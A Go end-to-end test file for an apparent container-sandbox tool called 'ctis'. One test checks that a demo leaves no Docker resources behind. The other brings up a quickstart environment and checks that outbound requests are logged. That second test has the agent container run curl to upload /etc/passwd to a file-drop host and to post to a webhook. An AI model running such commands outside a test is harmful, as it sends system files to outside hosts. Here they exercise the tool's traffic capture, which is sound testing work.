package e2e

import (
	"os"
	"strings"
	"testing"
)

// TestTheDemonstrationGoesAsExpectedAndLeavesNothing runs what the README's first
// command runs.
func TestTheDemonstrationGoesAsExpectedAndLeavesNothing(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	demos := func() string {
		return b.docker("ps", "-a", "--filter", "name=demo-", "--format", "{{.Names}}") +
			b.docker("network", "ls", "--filter", "name=demo-", "--format", "{{.Name}}") +
			b.docker("volume", "ls", "--filter", "name=demo-", "--format", "{{.Name}}") +
			b.docker("images", "--filter", "reference=ctis-demo-*/*", "--format", "{{.Repository}}")
	}
	before := demos() // somebody may have kept one
	r := b.ctis("demo").must(t, 0)
	if !strings.Contains(r.stdout, "15 records captured, every row as expected") || strings.Contains(r.stdout, "✘") {
		t.Errorf("says:\n%s", r.stdout)
	}
	for _, line := range lines(r.stderr) {
		if strings.Contains(line, "\x1b") || strings.Contains(line, "\r") {
			t.Errorf("no terminal, and yet: %q", line)
		}
	}
	if left := demos(); left != before {
		t.Errorf("left: %s, before: %s", left, before)
	}
}

// TestTheQuickstartComesUpAsItStands: the example a user copies, run as it is but
// for the image, which cannot be pulled here.
func TestTheQuickstartComesUpAsItStands(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	ref := debian(t)
	id := b.id("quick")
	t.Cleanup(func() { b.ctis("down", id, "--timeout", "0s") })
	cmd := b.command("up", "../examples/quickstart", "--id", id)
	cmd.Env = append(cmd.Env, "AGENT_IMAGE="+ref)
	r := finish(t, cmd).must(t, 0)
	if !strings.Contains(r.stdout, id+" is up on network external") || !strings.Contains(r.stdout, "https://filebin.net") {
		t.Errorf("says:\n%s", r.stdout)
	}
	agent := id + "-default-1"
	b.exec(agent, "curl", "-sS", "-f", "-F", "file=@/etc/passwd", "https://filebin.net/public")
	b.exec(agent, "curl", "-sS", "-f", "-d", "x", "http://hooks.example.com/webhook")
	if out := b.exec(agent, "curl", "-sS", "https://filebin.net/public/passwd"); !strings.Contains(out, "root:") {
		t.Errorf("the file drop gives back %q", out)
	}
	logs := b.ctis("logs", id).must(t, 0).stdout
	for _, want := range []string{"POST", "https://filebin.net/public", "http://hooks.example.com/webhook", "default", "201"} {
		if !strings.Contains(logs, want) {
			t.Errorf("%q is not in:\n%s", want, logs)
		}
	}
	if _, err := os.Stat("../examples/quickstart/override.yaml"); err == nil {
		t.Error("a file was left in the environment")
	}
}
